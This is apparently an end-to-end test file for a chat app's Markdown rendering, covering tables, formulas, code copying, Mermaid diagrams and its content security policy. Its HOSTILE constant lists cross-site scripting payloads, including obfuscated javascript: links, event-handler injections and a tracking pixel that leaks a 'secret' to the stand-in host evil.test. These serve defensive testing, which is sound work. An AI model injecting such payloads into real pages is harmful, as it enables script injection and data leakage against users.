"""Markdown as it is written by models, and by those who mean harm."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import Visits
from tests.e2e.chat import Chat, import_conversation

RICH = r"""# Heading

Some **bold** text, `code`, and a [link](https://example.com/a).

| Name | Value |
| --- | ---: |
| one | 1 |

```python
def answer(question: str) -> int:
    return 42  # the answer
```

Inline $e^{i\pi} + 1 = 0$ costs neither $5 nor $10.

$$
\int_0^1 x\,dx = \frac{1}{2}
$$

- [x] done
"""
DIAGRAM = "```mermaid\nflowchart LR\n  A[Browser] --> B[Server]\n```\n"
HOSTILE = """<script>window.hacked = 1</script><img src="https://evil.test/a.png" onerror="window.hacked = 2">

<iframe src="https://evil.test/"></iframe><svg onload="window.hacked = 3"></svg><style>body { display: none }</style>

[one](javascript:window.hacked=4) [two](JaVaScRiPt:window.hacked=5) <a href="java&#10;script:window.hacked=6">three</a>
![pixel](https://evil.test/pixel.png?secret=1) <form action="https://evil.test"><button>go</button></form>
<a href="data:text/html,<script>window.hacked=7</script>">four</a> <div style="background:url(https://evil.test/b.png)">x</div>
<link rel="stylesheet" href="https://evil.test/c.css"><video src="https://evil.test/d.mp4" autoplay></video>
<https://evil.test/auto>

```mermaid
flowchart LR
  A["<img src=https://evil.test/e.png onerror=window.hacked=8>"] --> B
  click A "javascript:window.hacked=9"
```
"""


def test_markdown_is_drawn(chat: Chat) -> None:
    """Headings, tables, coloured code, formulas and lists; sums of money stay text."""
    identifier = import_conversation(chat.server, "Rich", ("Write.", RICH))
    chat.page.goto(f"{chat.server.address}/c/{identifier}")
    reply = chat.reply
    expect(reply.get_by_role("heading", name="Heading")).to_be_visible()
    expect(reply.get_by_role("cell", name="one")).to_be_visible()
    expect(reply.locator("pre code span[style*=color]").first).to_be_visible()
    expect(reply.locator(".katex")).to_have_count(2)
    expect(reply).to_contain_text("costs neither $5 nor $10")
    expect(reply.get_by_role("checkbox")).to_be_checked()
    link = reply.get_by_role("link", name="link")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    expect(link).to_have_attribute("target", "_blank")


def test_code_is_copied_as_it_is(chat: Chat) -> None:
    """The button of a block copies the code, that of the reply its Markdown."""
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    identifier = import_conversation(chat.server, "Rich", ("Write.", RICH))
    chat.page.goto(f"{chat.server.address}/c/{identifier}")
    chat.reply.locator(".code-block").get_by_role("button", name="Copy").click()
    copied = chat.page.evaluate("navigator.clipboard.readText()")
    assert copied.strip() == "def answer(question: str) -> int:\n    return 42  # the answer"
    chat.reply.get_by_role("button", name="Copy").last.click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == RICH


def test_a_diagram_is_drawn_as_a_picture(chat: Chat) -> None:
    """Mermaid comes when it is needed; its source can be shown."""
    identifier = import_conversation(chat.server, "Diagram", ("Draw.", DIAGRAM))
    chat.page.goto(f"{chat.server.address}/c/{identifier}")
    picture = chat.reply.locator("[data-diagram] img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.naturalWidth") > 50
    chat.reply.get_by_role("button", name="Source").click()
    expect(chat.reply.locator("pre")).to_contain_text("flowchart LR")


@pytest.mark.parametrize("sent", [False, True], ids=["kept", "typed"])
def test_hostile_markdown_does_nothing(chat: Chat, visits: Visits, sent: bool) -> None:
    """Nothing runs, nothing is fetched, nothing leaves: in a reply or in what a person writes."""
    turn = (HOSTILE, "Noted.") if sent else ("Be bad.", HOSTILE)
    identifier = import_conversation(chat.server, "Hostile", turn)
    chat.page.goto(f"{chat.server.address}/c/{identifier}")
    expect(chat.reply.get_by_role("button", name="Answer again")).to_be_visible()
    for link in chat.page.locator("article a").all():
        assert re.match(r"https?://", link.get_attribute("href") or "")
    if not sent:
        chat.reply.get_by_text("one", exact=False).first.click()
        expect(chat.reply.get_by_text("Image “pixel” is not loaded")).to_be_visible()
        assert chat.page.locator("article :is(script, iframe, style, form, video, link, object, embed)").count() == 0
    chat.page.wait_for_timeout(500)
    assert chat.page.evaluate("window.hacked") is None
    assert visits.watched(chat.page).foreign == []


def test_the_policy_of_contents_is_strict(chat: Chat) -> None:
    """No inline script, no eval, no other host."""
    response = chat.page.request.get(chat.server.address, headers={"accept": "text/html"})
    policy = response.headers["content-security-policy"]
    script = re.search(r"script-src ([^;]*)", policy)
    assert script is not None
    assert script[1].strip() == "'self'"
    assert "unsafe-eval" not in policy
    assert "http:" not in policy
    assert "<script>" not in response.text()
